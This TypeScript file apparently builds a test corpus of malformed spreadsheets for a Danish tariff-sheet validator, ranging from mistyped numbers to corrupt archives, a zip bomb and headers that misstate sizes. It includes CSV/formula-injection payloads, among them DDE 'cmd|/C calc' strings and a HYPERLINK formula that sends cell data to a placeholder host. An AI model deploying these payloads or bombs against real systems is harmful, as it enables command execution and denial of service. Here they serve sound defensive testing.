// The bad-input corpus: every case is built from code, named, and carries what it must give — a finding on a
// given cell, the values read, or a refusal with an error code. test/corpus/corpus.test.ts runs each through
// the core and through every CLI command; scripts/corpus.ts writes them out and runs the real binary on them.
import { constants, crc32 as zlibCrc32, deflateRawSync } from 'node:zlib';
import * as yauzl from 'yauzl';
import ExcelJS from 'exceljs';
import type { RunErrorCode } from '../../src/core/errors';
import { workbookBytes } from '../../src/adapters/exceljs/write';
import { a1 } from '../../src/core/grid';
import type { ColumnKey } from '../../src/core/layout/columns';
import type { TemplateLayout } from '../../src/core/template/build';
import { buildFixture } from '../fixtures/builder';
import { TEST_MUNICIPALITY_HEADER, testMunicipalityBlocks } from '../fixtures/seeds';
import { SYNTHETIC_MAPPING, syntheticCsv, syntheticOffers, windows1252 } from '../fixtures/synthetic-export';
import { deleteRow, insertRows, remapSheet, swapColumns } from './edit';

export type Year = 'y1' | 'y2';

/** A finding the case must give: rule id and, where it has one, the cell. */
export interface ExpectedFinding {
  rule: string;
  cell?: string;
  sheet?: string;
}

/** A value the reader must see in a block (block number from 1, as the pane shows it). */
export interface ExpectedValue {
  sheet?: string;
  block: number;
  year: Year;
  field: 'pladser' | 'belaegning' | 'budget' | 'regulering' | 'oh' | 'basis' | 'takst1' | 'takst2';
  value: number | null;
}

export type Expectation =
  /** A takstskema that reads: these findings (and no others of severity fejl), these values. */
  | { kind: 'reads'; findings: ExpectedFinding[]; values?: ExpectedValue[]; sheets?: number; blocks?: number }
  /** A file no command can use: exit code 2 and one line naming the problem. */
  | { kind: 'refused'; code: RunErrorCode; message: RegExp }
  /** A tidy table for `takst fill --mapping`: the offers it must give (and text that must stay text). */
  | {
      kind: 'table';
      offers: number;
      contains?: string[];
      refused?: RegExp;
      /** Rows read (used or reported): none is lost. */
      rows?: number;
      /** What must be reported (a row not used or a value not written), each by its row; [] for nothing at all. */
      problems?: RegExp[];
    };

export interface CorpusCase {
  id: string;
  /** What is wrong with the file, in Danish. */
  title: string;
  /** File name with extension. */
  file: string;
  build(): Promise<Buffer>;
  expect: Expectation;
}

// ---------------------------------------------------------------------------------------------------------------
// The base: the draft's test municipality (Hobro, Beskyttet Beskæftigelse) with both years; 0 findings.

const SHEET = 'Takster 2027';

function base(opts: { blocks?: number } = {}) {
  const blocks = testMunicipalityBlocks().slice(1, 1 + (opts.blocks ?? 2));
  return buildFixture({ driftsherre: 'Mariagerfjord Kommune', header: TEST_MUNICIPALITY_HEADER, blocks });
}

/** The A1 address of a block's field (block from 1). */
export function at(layout: TemplateLayout, block: number, year: Year, field: ColumnKey): string {
  const b = layout.blocks[block - 1];
  return a1(year === 'y1' ? b.y1Row : b.y2Row, layout.columns[field]);
}

/** A base workbook with the cells set (exceljs cell values: numbers, texts, {error}, {formula, result}). */
function skema(edit: (ws: ExcelJS.Worksheet, layout: TemplateLayout, wb: ExcelJS.Workbook) => void, opts: { blocks?: number } = {}): () => Promise<Buffer> {
  return async () => {
    const { workbook, layout } = base(opts);
    edit(workbook.getWorksheet(SHEET)!, layout, workbook);
    return workbookBytes(workbook);
  };
}

/** Sets a cell to a text the user typed (format General, so Excel would show it as text). */
function typed(ws: ExcelJS.Worksheet, address: string, value: ExcelJS.CellValue): void {
  const cell = ws.getCell(address);
  cell.value = value;
  cell.numFmt = 'General';
}

// The base's addresses (block 1 = Aktivitetshuset Hobro; block 2 = Beskyttet Beskæftigelse Mariagerfjord).
const L = base().layout;
const HOBRO = (year: Year, field: ColumnKey) => at(L, 1, year, field);
const BB = (year: Year, field: ColumnKey) => at(L, 2, year, field);

function readsCase(id: string, title: string, edit: Parameters<typeof skema>[0], findings: ExpectedFinding[], values: ExpectedValue[] = []): CorpusCase {
  return { id, title, file: `${id}.xlsx`, build: skema(edit), expect: { kind: 'reads', findings, values } };
}

// ---------------------------------------------------------------------------------------------------------------
// Cell content.

const CONTENT: CorpusCase[] = [
  readsCase(
    'tekst-i-talcelle',
    'Tekst i en talcelle (Pladser = "fyrre")',
    (ws) => typed(ws, HOBRO('y2', 'pladser'), 'fyrre'),
    [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser') }],
    [{ block: 1, year: 'y2', field: 'pladser', value: null }],
  ),
  readsCase(
    'procent-som-tekst',
    'Belægning skrevet som teksten "98 %"',
    (ws) => typed(ws, HOBRO('y2', 'belaegning'), '98 %'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'belaegning') }],
    [{ block: 1, year: 'y2', field: 'belaegning', value: 98 }],
  ),
  readsCase(
    'procent-uden-procenttegn',
    'Belægning skrevet som tallet 98 i en celle uden procentformat',
    (ws) => typed(ws, HOBRO('y2', 'belaegning'), 98),
    [],
    [{ block: 1, year: 'y2', field: 'belaegning', value: 98 }],
  ),
  readsCase(
    'dansk-decimal-som-tekst',
    'OH % skrevet som teksten "5,7"',
    (ws) => typed(ws, HOBRO('y2', 'oh'), '5,7'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'oh') }],
    [{ block: 1, year: 'y2', field: 'oh', value: 5.7 }],
  ),
  readsCase(
    'engelsk-decimal-som-tekst',
    'Takst 1 skrevet med engelsk decimalpunktum: "325.50"',
    (ws) => typed(ws, HOBRO('y2', 'takst1'), '325.50'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'takst1') }],
    [{ block: 1, year: 'y2', field: 'takst1', value: 325.5 }],
  ),
  readsCase(
    'tusindtalsseparator-punktum',
    'Budget skrevet som teksten "8.716.584"',
    (ws) => typed(ws, HOBRO('y2', 'budget'), '8.716.584'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }],
    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
  ),
  readsCase(
    'tusindtalsseparator-komma',
    'Budget skrevet med engelske tusindtalskommaer: "8,716,584"',
    (ws) => typed(ws, HOBRO('y2', 'budget'), '8,716,584'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }],
    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
  ),
  readsCase(
    'tusindtalsseparator-mellemrum',
    'Budget skrevet med hårde mellemrum som tusindtalsseparator: "8 716 584"',
    (ws) => typed(ws, HOBRO('y2', 'budget'), '8\u00a0716\u00a0584'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }],
    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
  ),
  readsCase(
    'valuta-og-kr',
    'Takst skrevet som "487 kr."',
    (ws) => typed(ws, HOBRO('y2', 'takst2'), '487 kr.'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'takst2') }],
    [{ block: 1, year: 'y2', field: 'takst2', value: 487 }],
  ),
  readsCase(
    'unicode-minus',
    'Regulering med typografisk minus: "−571.416"',
    (ws) => typed(ws, HOBRO('y2', 'regulering'), '\u2212571.416'),
    [{ rule: 'text-number', cell: HOBRO('y2', 'regulering') }],
    [{ block: 1, year: 'y2', field: 'regulering', value: -571_416 }],
  ),
  readsCase(
    'kun-mellemrum',
    'En talcelle med kun mellemrum (læses som tom)',
    (ws) => typed(ws, HOBRO('y2', 'regulering'), '   '),
    [],
    [{ block: 1, year: 'y2', field: 'regulering', value: null }],
  ),
  readsCase(
    'negative-pladser',
    'Negativt antal pladser',
    (ws) => typed(ws, HOBRO('y2', 'pladser'), -50),
    [{ rule: 'pladser-negative', cell: HOBRO('y2', 'pladser') }],
    [{ block: 1, year: 'y2', field: 'pladser', value: -50 }],
  ),
  readsCase('pladser-med-decimaler', 'Pladser med decimaler (49,5)', (ws) => typed(ws, HOBRO('y2', 'pladser'), 49.5), [
    { rule: 'pladser-not-whole', cell: HOBRO('y2', 'pladser') },
  ]),
  readsCase(
    'belaegning-0',
    'Belægning 0 % (under grænseværdien: kræver også bemærkning og tomgang)',
    (ws) => (ws.getCell(HOBRO('y2', 'belaegning')).value = 0),
    [{ rule: 'belaegning-range', cell: HOBRO('y2', 'belaegning') }, { rule: 'low-occupancy-needs-remark' }],
    [{ block: 1, year: 'y2', field: 'belaegning', value: 0 }],
  ),
  readsCase(
    'belaegning-150',
    'Belægning 150 %',
    (ws) => (ws.getCell(HOBRO('y2', 'belaegning')).value = 1.5),
    [{ rule: 'belaegning-range', cell: HOBRO('y2', 'belaegning') }],
    [{ block: 1, year: 'y2', field: 'belaegning', value: 150 }],
  ),
  readsCase('negativt-budget', 'Negativt budget i alt', (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = -8_716_584), [
    { rule: 'budget-and-rates', cell: HOBRO('y2', 'budget') },
  ]),
  readsCase(
    'formel-i-inputcelle',
    'En formel i en indtastningscelle (Budget = 8000000+716584) læses som sit resultat',
    (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: '8000000+716584', result: 8_716_584 }),
    [],
    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
  ),
  readsCase(
    'fejl-ref',
    '#REF! i en indtastningscelle (formel til en slettet række)',
    (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: '#REF!*2', result: { error: '#REF!' } }),
    [{ rule: 'input-error-value', cell: HOBRO('y2', 'budget') }],
    [{ block: 1, year: 'y2', field: 'budget', value: null }],
  ),
  readsCase(
    'fejl-div0',
    '#DIV/0! i en indtastningscelle',
    (ws) => (ws.getCell(HOBRO('y2', 'takst1')).value = { formula: 'G9/0', result: { error: '#DIV/0!' } }),
    [{ rule: 'input-error-value', cell: HOBRO('y2', 'takst1') }],
  ),
  readsCase(
    'fejl-na',
    '#N/A som værdi i en indtastningscelle (indsat som værdi)',
    (ws) => (ws.getCell(HOBRO('y1', 'pladser')).value = { error: '#N/A' } as ExcelJS.CellErrorValue),
    [{ rule: 'input-error-value', cell: HOBRO('y1', 'pladser') }],
  ),
  readsCase('fejl-value-i-oh', '#VALUE! i OH %', (ws) => (ws.getCell(BB('y2', 'oh')).value = { formula: 'A1+1', result: { error: '#VALUE!' } }), [
    { rule: 'input-error-value', cell: BB('y2', 'oh') },
  ]),
  readsCase(
    'dato-i-talcelle',
    'En dato i en talcelle (Pladser = 1-1-2027)',
    (ws) => {
      const c = ws.getCell(HOBRO('y2', 'pladser'));
      c.value = new Date(Date.UTC(2027, 0, 1));
      c.numFmt = 'd-m-yyyy';
    },
    [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser') }],
  ),
  readsCase('aarstal-tastefejl', 'År 20277 i en blok (en tast for meget)', (ws) => (ws.getCell(HOBRO('y2', 'aar')).value = 20277), [
    { rule: 'year-in-sheet', cell: HOBRO('y2', 'aar') },
  ]),
  readsCase('aarstal-som-datotal', 'År er datoens serienummer 46388 (1-1-2027, der har mistet sit datoformat)', (ws) => typed(ws, HOBRO('y2', 'aar'), 46388), [
    { rule: 'year-in-sheet', cell: HOBRO('y2', 'aar') },
  ]),
  readsCase(
    'formel-uden-resultat',
    'Budget i alt er en formel uden gemt resultat (filen er gemt af et program, der ikke regner)',
    (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: 'SUM(X1:X9)' } as ExcelJS.CellFormulaValue),
    [{ rule: 'formula-without-result', cell: HOBRO('y2', 'budget') }],
  ),
  readsCase('sand-i-talcelle', 'SAND (en logisk værdi) i en talcelle', (ws) => (ws.getCell(HOBRO('y2', 'takst1')).value = true), [
    { rule: 'not-a-number', cell: HOBRO('y2', 'takst1') },
  ]),
  readsCase(
    'takst-3-uden-takst-2',
    'Takst 3 udfyldt, Takst 2 tom',
    (ws) => ((ws.getCell(HOBRO('y2', 'takst2')).value = null), (ws.getCell(HOBRO('y2', 'takst3')).value = 487)),
    [{ rule: 'takst-levels-contiguous', cell: HOBRO('y2', 'takst2') }],
  ),
  readsCase(
    'enhed-ukendt',
    'Enhed uden for listen ("Døgnpris"; Enhed er flettet over de to årsrækker)',
    (ws) => (ws.getCell(HOBRO('y1', 'enhed')).value = 'Døgnpris'),
    [{ rule: 'enhed-in-list', cell: HOBRO('y1', 'enhed') }],
  ),
  readsCase(
    'tilbud-tomt',
    'Tilbud og Afdeling slettet i en blok med tal',
    (ws) => {
      for (const y of ['y1', 'y2'] as const) {
        ws.getCell(HOBRO(y, 'tilbud')).value = null;
        ws.getCell(HOBRO(y, 'afdeling')).value = null;
      }
    },
    [{ rule: 'identity-required', cell: HOBRO('y1', 'tilbud') }],
  ),
  readsCase('pl-slettet', 'P/L - Kommuner slettet i arkets hoved', (ws) => (ws.getCell(a1(L.header.plKommuner.row, L.header.plKommuner.col)).value = null), [
    { rule: 'sheet-cells-present' },
  ]),
  readsCase(
    'driftsherre-stavefejl',
    'Driftsherre stavet forkert ("Mariagerfjord Kommunne")',
    (ws) => (ws.getCell(a1(L.header.driftsherre.row, L.header.driftsherre.col)).value = 'Mariagerfjord Kommunne'),
    [{ rule: 'driftsherre-known' }],
  ),
  readsCase('lang-tekst', 'En bemærkning på 40.000 tegn', (ws) => (ws.getCell(HOBRO('y2', 'bemaerkning')).value = 'Lang bemærkning. '.repeat(2_400)), []),
  readsCase(
    'rich-text-og-link',
    'Tilbud som formateret tekst og som hyperlink',
    (ws) => {
      ws.getCell(HOBRO('y1', 'tilbud')).value = { richText: [{ text: 'Aktivitetshuset ', font: { bold: true } }, { text: 'Hobro' }] };
      ws.getCell(BB('y1', 'tilbud')).value = { text: 'Beskyttet Beskæftigelse Mariagerfjord', hyperlink: 'https://example.invalid/' };
    },
    [],
  ),
];

// ---------------------------------------------------------------------------------------------------------------
// Layout damage.

const b1 = L.blocks[0];
const b2 = L.blocks[1];
const row1 = (r0: number) => r0 + 1;

/** A case made by editing the base workbook; `sheet()` is the skema sheet as it is now (an edit may rebuild it). */
function layoutCase(
  id: string,
  title: string,
  edit: (workbook: ExcelJS.Workbook, sheet: () => ExcelJS.Worksheet) => void | Promise<void>,
  expect: Expectation,
): CorpusCase {
  return {
    id,
    title,
    file: `${id}.xlsx`,
    build: async () => {
      const { workbook } = base();
      await edit(workbook, () => workbook.getWorksheet(SHEET)!);
      return workbookBytes(workbook);
    },
    expect,
  };
}

const LAYOUT: CorpusCase[] = [
  layoutCase(
    'tom-raekke-i-blok',
    'En tom række indsat mellem år 1 og år 2 i en blok',
    (workbook) => {
      insertRows(workbook, SHEET, row1(b1.y2Row));
    },
    {
      kind: 'reads',
      findings: [],
      values: [
        { block: 1, year: 'y2', field: 'budget', value: 8_716_584 },
        { block: 2, year: 'y2', field: 'takst2', value: 519 },
      ],
    },
  ),
  layoutCase(
    'raekke-med-tal-i-blok',
    'En række med tal indsat inde i en blok (en ekstra årsrække)',
    (workbook, sheet) => {
      insertRows(workbook, SHEET, row1(b1.changeRow));
      sheet().getCell(a1(b1.changeRow, L.columns.aar)).value = 2028;
      sheet().getCell(a1(b1.changeRow, L.columns.pladser)).value = 52;
    },
    {
      kind: 'reads',
      findings: [{ rule: 'unplaced-value', cell: a1(b1.changeRow, L.columns.pladser) }],
      values: [{ block: 1, year: 'y2', field: 'pladser', value: 50 }],
    },
  ),
  layoutCase(
    'blokoverskrift-slettet',
    'Overskriftsrækken i blok 2 slettet',
    (workbook) => {
      deleteRow(workbook, SHEET, row1(b2.headerRow));
    },
    {
      kind: 'reads',
      findings: [{ rule: 'block-header-missing', cell: a1(b2.y1Row - 1, L.columns.tilbud) }],
      values: [
        { block: 1, year: 'y2', field: 'pladser', value: 50 },
        { block: 2, year: 'y1', field: 'pladser', value: 57 },
        { block: 2, year: 'y2', field: 'takst2', value: 519 },
      ],
      blocks: 2,
    },
  ),
  layoutCase(
    'flettede-celler-flyttet',
    'Flettede celler flyttet: Tilbud flettet ned over Ændring-rækken, Bemærkning flettet over to kolonner',
    (workbook, sheet) => {
      const tilbud = `${a1(b1.y1Row, L.columns.tilbud)}:${a1(b1.y2Row, L.columns.tilbud)}`;
      const bem = `${a1(b1.y1Row, L.columns.bemaerkning)}:${a1(b1.y2Row, L.columns.bemaerkning)}`;
      sheet().unMergeCells(tilbud);
      sheet().unMergeCells(bem);
      sheet().mergeCells(`${a1(b1.y1Row, L.columns.tilbud)}:${a1(b1.changeRow, L.columns.tilbud)}`);
      sheet().mergeCells(`${a1(b1.y1Row, L.columns.tomgang)}:${a1(b1.y1Row, L.columns.bemaerkning)}`);
    },
    {
      kind: 'reads',
      findings: [],
      values: [
        { block: 1, year: 'y1', field: 'pladser', value: 50 },
        { block: 1, year: 'y2', field: 'budget', value: 8_716_584 },
      ],
    },
  ),
  layoutCase(
    'kolonner-byttet',
    'Kolonnerne Pladser og Belægning byttet om (overskrifter og tal)',
    (workbook) => {
      swapColumns(workbook, SHEET, L.columns.pladser + 1, L.columns.belaegning + 1);
    },
    {
      kind: 'reads',
      findings: [],
      values: [
        { block: 1, year: 'y2', field: 'pladser', value: 50 },
        { block: 1, year: 'y2', field: 'belaegning', value: 98 },
      ],
    },
  ),
  layoutCase(
    'kolonne-indsat',
    'En ekstra kolonne ("Note") indsat mellem Budget i alt og Regulering',
    (workbook, sheet) => {
      const at0 = L.columns.regulering + 1;
      remapSheet(workbook, SHEET, (r, c) => [r, c >= at0 ? c + 1 : c]);
      for (const b of L.blocks) sheet().getCell(b.headerRow + 1, at0).value = 'Note';
    },
    {
      kind: 'reads',
      findings: [],
      values: [
        { block: 1, year: 'y2', field: 'regulering', value: -571_416 },
        { block: 2, year: 'y2', field: 'takst2', value: 519 },
      ],
    },
  ),
  {
    id: 'skjult-ark',
    title: 'Takstskemaet ligger i et skjult ark',
    file: 'skjult-ark.xlsx',
    build: skema((ws) => (ws.state = 'hidden')),
    expect: { kind: 'reads', findings: [], sheets: 1 },
  },
  {
    id: 'to-takstskemaer',
    title: 'To takstskema-ark i samme arbejdsbog (en kopi med en fejl)',
    file: 'to-takstskemaer.xlsx',
    build: async () => {
      const first = base().workbook;
      const second = base().workbook.getWorksheet(SHEET)!;
      const copy = first.addWorksheet('Takster 2027 (2)');
      second.eachRow({ includeEmpty: true }, (row) =>
        row.eachCell({ includeEmpty: true }, (c) => {
          if (c.isMerged && c.master !== c) return;
          const t = copy.getCell(c.address);
          t.value = c.value;
          t.style = c.style;
        }),
      );
      for (const m of (second.model as { merges?: string[] }).merges ?? []) copy.mergeCells(m);
      copy.getCell(HOBRO('y2', 'pladser')).value = 'halvtreds';
      return workbookBytes(first);
    },
    expect: { kind: 'reads', findings: [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser'), sheet: 'Takster 2027 (2)' }], sheets: 2 },
  },
  layoutCase(
    'beskyttet-ark',
    'Arket er beskyttet med adgangskode (arkbeskyttelse, filen kan læses)',
    async (workbook) => {
      await workbook.getWorksheet(SHEET)!.protect('hemmelig', { selectLockedCells: true });
    },
    { kind: 'reads', findings: [] },
  ),
  layoutCase(
    'flyttet-ned-og-til-hoejre',
    'Hele skemaet flyttet 3 rækker ned og 2 kolonner til højre',
    (workbook) => {
      remapSheet(workbook, SHEET, (r, c) => [r + 3, c + 2]);
    },
    { kind: 'reads', findings: [], values: [{ block: 2, year: 'y1', field: 'takst1', value: 307 }] },
  ),
];

// ---------------------------------------------------------------------------------------------------------------
// Injection: formula payloads in every text field stay text in every output.

export const INJECTION = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const INJECT: CorpusCase[] = [
  readsCase(
    'csv-injektion-i-tekstfelter',
    'Formel-lignende tekst (CSV-injektion) i Tilbud, Afdeling, §§, Enhed, Bemærkning, Særlige forhold og Driftsherre',
    (ws) => {
      const [p0, p1, p2, p3, p4] = INJECTION;
      for (const y of ['y1', 'y2'] as const) {
        ws.getCell(HOBRO(y, 'afdeling')).value = p1;
        ws.getCell(HOBRO(y, 'paragraf')).value = p2;
      }
      ws.getCell(HOBRO('y1', 'tilbud')).value = p0;
      ws.getCell(HOBRO('y1', 'enhed')).value = p3;
      ws.getCell(HOBRO('y1', 'bemaerkning')).value = p4;
      ws.getCell(a1(b1.saerligeRow, b1.saerligeValueCol)).value = INJECTION[5];
      ws.getCell(a1(L.header.driftsherre.row, L.header.driftsherre.col)).value = '=1+1';
    },
    [{ rule: 'enhed-in-list', cell: HOBRO('y1', 'enhed') }, { rule: 'paragraf-in-list' }, { rule: 'driftsherre-known' }],
  ),
];

// ---------------------------------------------------------------------------------------------------------------
// Whole-workbook and file damage.

async function emptyWorkbook(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('Ark1');
  return workbookBytes(wb);
}

async function notATakstskema(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Budget');
  ws.addRow(['Konto', 'Tekst', 'Budget 2027', 'Regnskab 2025']);
  for (let i = 0; i < 30; i++) ws.addRow([4000 + i, `Konto ${i}`, 1000 * i, 900 * i]);
  return workbookBytes(wb);
}

async function validBytes(): Promise<Buffer> {
  return workbookBytes(base().workbook);
}

export interface ZipEntry {
  name: string;
  data: Buffer;
  deflate?: boolean;
  /** The entry is `data` this many times over (deflated chunk by chunk, so a huge entry costs little to build). */
  repeat?: number;
  /** The uncompressed size written in the headers, when it is to lie. */
  claimSize?: number;
}

/** A little-endian record of the given size with fields at [offset, width, value]. */
function record(size: number, fields: Array<[number, 2 | 4, number]>): Buffer {
  const b = Buffer.alloc(size);
  for (const [at, width, v] of fields) {
    if (width === 2) b.writeUInt16LE(v, at);
    else b.writeUInt32LE(v, at);
  }
  return b;
}

/** A minimal zip writer (stored or deflated entries), to forge archives a normal writer would not make. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const n = e.repeat ?? 1;
    let body: Buffer;
    if (!e.deflate) body = Buffer.concat(Array.from({ length: n }, () => e.data));
    else if (n === 1) body = deflateRawSync(e.data);
    else {
      const chunk = deflateRawSync(e.data, { finishFlush: constants.Z_SYNC_FLUSH });
      body = Buffer.concat([...Array.from({ length: n }, () => chunk), deflateRawSync(Buffer.alloc(0))]);
    }
    const name = Buffer.from(e.name, 'utf8');
    const size = e.claimSize ?? e.data.length * n;
    let crc = 0;
    for (let i = 0; i < n; i++) crc = zlibCrc32(e.data, crc);
    const method = e.deflate ? 8 : 0;
    const local = record(30, [
      [0, 4, 0x04034b50],
      [4, 2, 20],
      [8, 2, method],
      [14, 4, crc],
      [18, 4, body.length],
      [22, 4, size],
      [26, 2, name.length],
    ]);
    const central = record(46, [
      [0, 4, 0x02014b50],
      [4, 2, 20],
      [6, 2, 20],
      [10, 2, method],
      [16, 4, crc],
      [20, 4, body.length],
      [24, 4, size],
      [28, 2, name.length],
      [42, 4, offset],
    ]);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = record(22, [
    [0, 4, 0x06054b50],
    [8, 2, entries.length],
    [10, 2, entries.length],
    [12, 4, cd.length],
    [16, 4, offset],
  ]);
  return Buffer.concat([...locals, cd, end]);
}

/** The parts of the valid base file, to rebuild it with one part changed. */
async function parts(): Promise<Array<{ name: string; data: Buffer }>> {
  const bytes = await validBytes();
  return new Promise((resolve, reject) => {
    const out: Array<{ name: string; data: Buffer }> = [];
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (err, z) => {
      if (err || !z) return reject(err);
      z.on('entry', (entry: yauzl.Entry) => {
        if (entry.fileName.endsWith('/')) return z.readEntry();
        z.openReadStream(entry, (e2, stream) => {
          if (e2 || !stream) return reject(e2);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => {
            out.push({ name: entry.fileName, data: Buffer.concat(chunks) });
            z.readEntry();
          });
        });
      });
      z.on('end', () => resolve(out));
      z.on('error', reject);
      z.readEntry();
    });
  });
}

const FILES: CorpusCase[] = [
  {
    id: 'tom-arbejdsbog',
    title: 'En tom arbejdsbog (ét tomt ark)',
    file: 'tom-arbejdsbog.xlsx',
    build: emptyWorkbook,
    expect: { kind: 'refused', code: 'no-takstskema', message: /intet af arkene er et takstskema/ },
  },
  {
    id: 'ikke-et-takstskema',
    title: 'En arbejdsbog, der ikke er et takstskema (et budgetark)',
    file: 'ikke-et-takstskema.xlsx',
    build: notATakstskema,
    expect: { kind: 'refused', code: 'no-takstskema', message: /intet af arkene er et takstskema/ },
  },
  {
    id: 'adgangskode',
    title: 'En adgangskodebeskyttet fil (krypteret: en OLE-beholder, ikke en zip)',
    file: 'adgangskode.xlsx',
    build: async () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4088, 0)]),
    expect: { kind: 'refused', code: 'encrypted', message: /adgangskodebeskyttet/ },
  },
  {
    id: 'afkortet',
    title: 'En afkortet xlsx (første halvdel af filen)',
    file: 'afkortet.xlsx',
    build: async () => (await validBytes()).subarray(0, Math.floor((await validBytes()).length / 2)),
    expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
  },
  {
    id: 'beskadiget-midte',
    title: 'En xlsx med 2 KB ødelagte bytes midt i',
    file: 'beskadiget-midte.xlsx',
    build: async () => {
      const b = Buffer.from(await validBytes());
      const mid = Math.floor(b.length / 3);
      for (let i = 0; i < 2048; i++) b[mid + i] = (i * 131 + 7) & 0xff;
      return b;
    },
    expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
  },
  {
    id: 'tekst-omdoebt',
    title: 'En tekstfil omdøbt til .xlsx',
    file: 'tekst-omdoebt.xlsx',
    build: async () => Buffer.from('Tilbud;Afdeling;Pladser\nAktivitetshuset Hobro;Hobro;50\n', 'utf8'),
    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
  },
  {
    id: 'tom-fil',
    title: 'En tom fil (0 bytes)',
    file: 'tom-fil.xlsx',
    build: async () => Buffer.alloc(0),
    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
  },
  {
    id: 'html-omdoebt',
    title: 'En HTML-side gemt som .xlsx (som en webeksport)',
    file: 'html-omdoebt.xlsx',
    build: async () => Buffer.from('<html><body><table><tr><td>Tilbud</td></tr></table></body></html>'),
    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
  },
  {
    id: 'zip-uden-arbejdsbog',
    title: 'En zip-fil, der ikke er en arbejdsbog',
    file: 'zip-uden-arbejdsbog.xlsx',
    build: async () => zip([{ name: 'readme.txt', data: Buffer.from('hej') }]),
    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
  },
  {
    id: 'zip-bombe',
    title: 'En zip-bombe: en fil på under 1 MB, der udpakker til 1 GB (afvises før indlæsning)',
    file: 'zip-bombe.xlsx',
    build: async () => {
      const p = await parts();
      const blanks = Buffer.alloc(1024 * 1024, 0x20);
      return zip([...p.map((e) => ({ ...e, deflate: true })), { name: 'xl/media/fyld.bin', data: blanks, repeat: 1024, deflate: true }]);
    },
    expect: { kind: 'refused', code: 'zip-bomb', message: /udpakker til mere end/ },
  },
  {
    id: 'zip-loegn-om-stoerrelse',
    title: 'En zip, hvis indhold er større end headerne siger (udpakket størrelse forfalsket)',
    file: 'zip-loegn-om-stoerrelse.xlsx',
    build: async () => {
      const p = await parts();
      return zip(p.map((e) => ({ ...e, deflate: true, claimSize: e.name === 'xl/worksheets/sheet1.xml' ? 5000 : undefined })));
    },
    expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
  },
  {
    id: 'for-mange-raekker',
    title: 'Et ark, der påstår at have 2.000.000 rækker',
    file: 'for-mange-raekker.xlsx',
    build: async () => {
      const p = await parts();
      return zip(
        p.map((e) =>
          e.name === 'xl/worksheets/sheet1.xml'
            ? { ...e, data: Buffer.from(e.data.toString('utf8').replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:X2000000"/>')), deflate: true }
            : { ...e, deflate: true },
        ),
      );
    },
    expect: { kind: 'refused', code: 'too-many-rows', message: /rækker eller flere; grænsen er/ },
  },
  {
    id: 'kolonne-efter-xfd',
    title: 'Celler i en kolonne efter XFD (ZZZ), den sidste Excel kender, på 1.000 rækker',
    file: 'kolonne-efter-xfd.xlsx',
    build: async () => {
      const p = await parts();
      const rows = Array.from({ length: 1000 }, (_, i) => `<row r="${i + 200}"><c r="ZZZ${i + 200}"><v>1</v></c></row>`).join('');
      return zip(
        p.map((e) =>
          e.name === 'xl/worksheets/sheet1.xml'
            ? { ...e, data: Buffer.from(e.data.toString('utf8').replace('</sheetData>', `${rows}</sheetData>`)), deflate: true }
            : { ...e, deflate: true },
        ),
      );
    },
    expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
  },
  {
    id: 'ark-lyver-om-stoerrelse',
    title: 'Et ark, hvis <dimension> siger 85 rækker, men som rummer 120.000 (tælles under udpakningen)',
    file: 'ark-lyver-om-stoerrelse.xlsx',
    build: async () => {
      const p = await parts();
      const rows = Array.from({ length: 120_000 }, (_, i) => `<row r="${i + 100}"><c r="A${i + 100}"><v>1</v></c></row>`).join('');
      return zip(
        p.map((e) =>
          e.name === 'xl/worksheets/sheet1.xml'
            ? {
                ...e,
                data: Buffer.from(
                  e.data
                    .toString('utf8')
                    .replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:X85"/>')
                    .replace('</sheetData>', `${rows}</sheetData>`),
                ),
                deflate: true,
              }
            : { ...e, deflate: true },
        ),
      );
    },
    expect: { kind: 'refused', code: 'too-many-rows', message: /rækker eller flere; grænsen er/ },
  },
  {
    id: 'ark-xml-beskadiget',
    title: 'En arbejdsbog, hvis ark-XML er ødelagt (ugyldig XML)',
    file: 'ark-xml-beskadiget.xlsx',
    build: async () => {
      const p = await parts();
      return zip(
        p.map((e) =>
